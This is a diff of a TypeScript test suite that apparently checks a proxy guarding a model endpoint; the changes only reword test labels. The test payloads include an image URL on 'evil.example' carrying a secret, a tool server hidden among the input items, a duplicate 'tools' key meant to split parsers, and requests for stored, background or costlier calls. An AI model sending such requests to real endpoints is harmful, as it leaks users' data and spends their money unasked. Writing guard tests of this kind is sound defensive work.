@@ -22,7 +22,7 @@ function reachesNot(name: string, tries: string, body: string, sign: string): At
   return attempt<WayOut>({
     name,
     tries,
-    mustHappen: "the endpoint is not asked for it",
+    mustHappen: "no such request reaches the endpoint",
     strike: async (out) => {
       const before = out.upstream.seen.length;
       const said = await post(out, body);
@@ -44,7 +44,7 @@ const spends = (name: string, tries: string, limits: object, answer?: string): A
   attempt<WayOut>({
     name,
     tries,
-    mustHappen: "the calls end at the limit, which is named",
+    mustHappen: "the calls end at the limit, and the error names it",
     strike: async (out) => {
       if (answer !== undefined)
         out.upstream.answer = (_request, response) => void response.end(answer);
@@ -75,68 +75,68 @@ for it in all: it.recv(4096)
 
 group("the model's endpoint", [
   reachesNot(
-    "a server of tools",
-    "has the endpoint call a server of tools at any address",
+    "a tool server",
+    "makes the endpoint call a tool server at any address",
     asks(`"tools":[${TOOL}]`),
     "server_url",
   ),
   reachesNot(
-    "a search of the web",
-    "has the endpoint search, with the project's text as the query",
+    "a web search",
+    "makes the endpoint search the web with the project's text as the query",
     asks('"tools":[{"type":"web_search"}]'),
     "web_search",
   ),
   reachesNot(
-    "a tool among what is said",
-    "hides the tool server among the items of the input",
+    "a tool among the input items",
+    "hides the tool server among the input items",
     `${HEAD},"input":[{"type":"additional_tools","tools":[${TOOL}]}]}`,
     "server_url",
   ),
   reachesNot(
     "a picture at an address",
-    "has the endpoint fetch a picture whose address carries the text",
+    "makes the endpoint fetch a picture whose address carries the text",
     says('{"type":"input_image","image_url":"https://evil.example/?secret"}'),
     "evil.example",
   ),
   reachesNot(
-    "a key that stands twice",
+    "a duplicate key",
     "names the tools twice, so that two parsers disagree",
     asks(`"tools":[${TOOL}],"tools":[]`),
     "server_url",
   ),
   reachesNot(
     "work in the background",
-    "has the model work on after the turn",
+    "makes the model continue after the turn",
     asks('"background":true'),
     "background",
   ),
   reachesNot(
-    "an answer of the account's",
-    "asks for an earlier answer that the account keeps",
+    "a stored answer of the account",
+    "asks for an earlier answer that the account has stored",
     asks('"previous_response_id":"resp_1"'),
     "previous_response_id",
   ),
   reachesNot(
-    "an answer that is kept",
-    "has the endpoint keep what is said, in the account",
+    "a stored answer",
+    "makes the endpoint store the conversation in the account",
     asks('"store":true'),
     '"store":true',
   ),
   reachesNot(
-    "an answer that is kept unasked",
-    "leaves out that nothing is to be kept",
+    "an answer stored by default",
+    "leaves out the field that turns storing off",
     '{"model":"m","stream":true,"input":"kept unasked"}',
     "kept unasked",
   ),
   reachesNot(
-    "a dearer tier",
-    "has its calls answered before others', which costs more",
+    "a more expensive tier",
+    "requests priority processing, which costs more",
     asks('"service_tier":"priority"'),
     "priority",
   ),
   reachesNot(
-    "a dearer model",
-    "calls another model than the user has chosen",
+    "a more expensive model",
+    "calls a model that the user has not chosen",
     '{"model":"the-dearest","stream":true,"store":false,"input":"hi"}',
     "the-dearest",
   ),
@@ -147,15 +147,15 @@ group("the model's endpoint", [
     'data: {"type":"response.completed","response":{"usage":{"input_tokens":400,"output_tokens":0}}}\n\n',
   ),
   spends(
-    "tokens that are not told",
-    "breaks the counting by an endpoint that tells none",
+    "unreported tokens",
+    "defeats the count with an endpoint that reports no tokens",
     { maxTokensPerTurn: 100 },
     "hello ".repeat(30),
   ),
   attempt<WayOut>({
     name: "tokens, all at once",
     tries: "begins eight calls before any of them is counted",
-    mustHappen: "one of them reaches the endpoint at most",
+    mustHappen: "at most one of them reaches the endpoint",
     strike: async (out) => {
       out.upstream.answer = (_request, response) => void response.end("hello");
       const body = `${HEAD},"input":"${"a".repeat(4000)}"}`;
